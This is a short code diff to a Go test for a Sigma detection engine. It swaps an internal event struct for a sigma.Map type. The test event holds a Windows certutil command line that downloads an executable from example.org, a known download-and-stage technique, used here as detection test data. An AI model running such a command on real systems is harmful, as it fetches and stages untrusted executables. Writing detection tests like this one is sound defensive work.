@@ -20,7 +20,7 @@ detection:
   condition: selection
 `)).Set()
 	e := engine.Compile(rules, engine.Options{})
-	ev := &event{product: "windows", categories: []string{"process_creation"}, fields: map[string]any{
+	ev := sigma.Map{Product: "windows", Categories: []string{"process_creation"}, Fields: map[string]any{
 		"Image":       `C:\Windows\System32\certutil.exe`,
 		"CommandLine": "certutil -URLCache -f http://example.org/a.exe a.exe",
 	}}
